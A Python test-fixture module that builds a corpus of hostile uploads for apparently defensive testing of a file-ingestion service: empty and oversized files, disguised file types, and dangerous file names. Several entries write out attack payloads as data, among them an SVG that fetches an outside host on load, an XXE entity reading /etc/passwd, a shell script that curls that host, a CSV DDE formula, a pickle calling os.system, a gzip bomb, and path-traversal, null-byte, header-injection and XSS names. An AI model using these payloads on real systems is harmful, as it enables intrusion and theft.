"""What is no paper at all, and good papers with names that are not."""

import gzip

from tests.hostile import pictures
from tests.hostile.corpus import FAR, Corpus
from tests.hostile.packages import docx
from tests.hostile.pdfs import pdf


def make(corpus: Corpus) -> None:
    _nothing(corpus)
    _strangers(corpus)
    _names(corpus)


def _nothing(corpus: Corpus) -> None:
    corpus.add("an empty file", b"", "empty", family="almost nothing")
    for title, content in {"one byte": b"%", "one nought": b"\0", "a line break": b"\n",
                           "a mark of order": b"\xef\xbb\xbf"}.items():  # fmt: skip
        corpus.add(title, content, "unknown_kind", family="almost nothing")
    corpus.add("twenty-one megabytes", b"\xff\xd8\xff" + b"\0" * (21 << 20), "too_large",
               family="too much")  # fmt: skip


def _strangers(corpus: Corpus) -> None:
    gif = b"GIF89a\x01\0\x01\0\0\0\0;"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{FAR}\')"/>'.encode()
    found = {
        "a drawing that runs": svg,
        "a drawing with entities": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + svg,
        "a packed drawing": gzip.compress(svg, mtime=0),
        "a web page": pictures.PAGE,
        "a web page behind blanks": b" \n" * 600 + pictures.PAGE,
        "a web archive": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + pictures.PAGE,
        "a GIF": gif,
        "a GIF and a script": b"GIF89a/*" + gif + b"*/=1;alert(1)",
        "a TIFF": b"II*\0\x08\0\0\0\0\0",
        "a large TIFF": b"MM\0+\0\x08\0\0\0\0\0\0\0\x10",
        "a bitmap": b"BM\xff\xff\xff\x7f\0\0\0\0\x36\0\0\0",
        "an icon": b"\0\0\1\0\xff\xff",
        "a picture of Apple's": b"\0\0\0\x18ftypheic\0\0\0\0",
        "a picture of cinema's": b"\0\0\0\x18ftypavif\0\0\0\0",
        "a film": b"\0\0\0\x18ftypmp42\0\0\0\0",
        "a picture in JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n",
        "a Photoshop picture": b"8BPS\0\1",
        "words for a printer": b"%!PS-Adobe-3.0 EPSF-3.0\n(a) (w) file",
        "an old document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
        "rich text": b"{\\rtf1{\\object\\objdata 0105}}",
        "a program of Windows": b"MZ\x90\0\3\0\0\0",
        "a program of Linux": b"\x7fELF\2\1\1\0",
        "a program of macOS": b"\xcf\xfa\xed\xfe\7\0\0\1",
        "a program of the web": b"\0asm\1\0\0\0",
        "a script": b"#!/bin/sh\ncurl " + FAR.encode(),
        "a shortcut": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0",
        "a shortcut to an address": b"[InternetShortcut]\nURL=file://192.0.2.7/a",
        "a letter": b"From: a\nTo: b\n\nc",
        "a 7z archive": b"7z\xbc\xaf\x27\x1c\0\4",
        "a rar archive": b"Rar!\x1a\7\1\0",
        "a gzip bomb": gzip.compress(b"0" * (8 << 20), mtime=0),
        "a tape": b"a.txt".ljust(257, b"\0") + b"ustar\x0000",
        "an empty archive": b"PK\5\6" + b"\0" * 18,
        "a spanned archive": b"PK\7\x08PK\3\4",
        "a font": b"\0\1\0\0\0\x0a\0\x80",
        "a database": b"SQLite format 3\0",
        "a page of a reader": b"AT&TFORM\0\0\0\0DJVU",
        "a table of commas": "Họ tên,Ngày sinh\n=cmd|' /C calc'!A0,1\n".encode(),
        "data": b'{"__proto__": {"a": 1}}',
        "pickled Python": b"\x80\x04cos\nsystem\n",
        "noise": corpus.chance.randbytes(3000),
        "a PDF behind a page": b"<html>" + pdf(),
        "a picture behind a program": b"MZ" + pictures.picture(),
    }
    for title, content in found.items():
        corpus.add(f"stranger: {title}", content, "unknown_kind", family="strangers",
                   name="anh.jpg")  # fmt: skip


def _names(corpus: Corpus) -> None:
    secret = {
        "plain": "Bao cao - MẬT.pdf",
        "top": "TUYỆT MẬT so 5.pdf",
        "without marks": "toi_mat.pdf",
        "decomposed": "MA\u0323\u0302T.pdf",
        "wide": "ＭẬＴ.pdf",
        "with unseen signs": "M\u200bẬ\u2060T.pdf",
        "turned around": "a\u202e MẬT.pdf",
        "at the end of a path": "..\\..\\a\\tuyet-mat.pdf",
    }
    for title, name in secret.items():
        corpus.add(f"named MẬT: {title}", pdf(), "secret", family="marks of secrecy", name=name)
    told = pictures.photograph()
    strange = {
        "very long": "a" * 300_000 + ".jpg",
        "a path": "../../../../etc/cron.d/a",
        "a share": "\\\\192.0.2.7\\a\\b.jpg",
        "with a nought": "anh.jpg\0.php",
        "with line breaks": "anh\r\nSet-Cookie: a=b\r\n.jpg",
        "turned around": "anh\u202egpj.exe",
        "half a sign": "anh\ud800.jpg",
        "an option": "--help",
        "a device": "CON.jpg",
        "a formula": "=cmd|calc.jpg",
        "a page": "<img src=x onerror=alert(1)>.jpg",
        "nothing": "",
    }
    for title, name in strange.items():
        corpus.add(f"a good picture with a name: {title}", told, gone=(b"CANARY", b"Exif\0"),
                   family="names", name=name)  # fmt: skip
    wrong = {"a document named .pdf": (docx() + b"CANARY", "don.pdf"),
             "a PDF named .docx": (pdf() + b"CANARY", "don.docx"),
             "a picture named .docx": (told, "don.docx"),
             "a PDF named .exe": (pdf() + b"CANARY", "don.exe")}  # fmt: skip
    for title, (content, name) in wrong.items():
        corpus.add(title, content, gone=(b"CANARY",), family="wrong endings", name=name)
